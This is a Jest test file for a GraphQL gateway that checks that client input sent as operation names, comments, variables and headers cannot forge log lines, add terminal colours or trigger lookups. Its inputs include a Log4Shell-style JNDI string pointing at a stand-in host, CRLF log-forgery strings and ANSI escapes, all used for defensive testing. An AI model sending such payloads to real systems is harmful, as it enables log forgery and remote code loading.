import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { runGateway } from '../unit/gateway/http/running-gateway.js';

let gateway: Awaited<ReturnType<typeof runGateway>>;
beforeAll(async () => {
  gateway = await runGateway();
});
afterAll(() => gateway.close());

const FORGED = '{"level":60,"msg":"forged"}';
const INJECTIONS = [`x\r\n${FORGED}`, '\u001b[2J\u001b[31mred', '${jndi:ldap://elsewhere.example/a}', '\u2028line', '\u0000'];

describe('C24: nothing that a client writes becomes a line, a colour or a lookup of the log', () => {
  it.each(INJECTIONS)('%j as operation name, alias, comment and variable', async (text) => {
    const from = gateway.lines.length;
    const authorization = `Bearer ${await gateway.sign()}`;
    for (const body of [
      { query: 'query A { __typename }', operationName: text },
      { query: `{ __typename # ${text.replaceAll(/[\r\n\u2028]/g, ' ')}\n}` },
      { query: `{ ${text} }` },
      { query: 'query ($id: ID!) { citizen(id: $id) { id } }', variables: { id: text } },
    ]) {
      await fetch(gateway.url, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization },
        body: JSON.stringify(body),
      });
    }
    expectOneCleanLineEach(from, 4, text);
  });

  it.each(['${jndi:ldap://elsewhere.example/a}', 'a\tb', '%0d%0aforged'])('%j as headers', async (text) => {
    const from = gateway.lines.length;
    await gateway.ask('{ __typename }', {
      'asxh-purpose': text,
      'asxh-case': text,
      'user-agent': text,
      'x-request-id': text,
      referer: text,
    });
    await gateway.ask('{ __typename }', { 'asxh-role': text });
    await fetch(`${gateway.url}?query=${encodeURIComponent(text)}`, { headers: { authorization: text } });
    expectOneCleanLineEach(from, 3, text);
  });
});

/** Every request one line of JSON, without anything of what was sent. */
function expectOneCleanLineEach(from: number, requests: number, text: string): void {
  const lines = gateway.lines.slice(from);
  expect(lines).toHaveLength(requests);
  for (const line of lines) {
    expect(line.trimEnd()).not.toMatch(/[\u0000-\u001f\u007f\u2028\u2029]/);
    expect(line).not.toContain('forged');
    expect(line).not.toContain('jndi');
    expect((JSON.parse(line) as { msg: string }).msg).toBe('request');
    expect(line).not.toContain(JSON.stringify(text).slice(1, -1));
  }
}
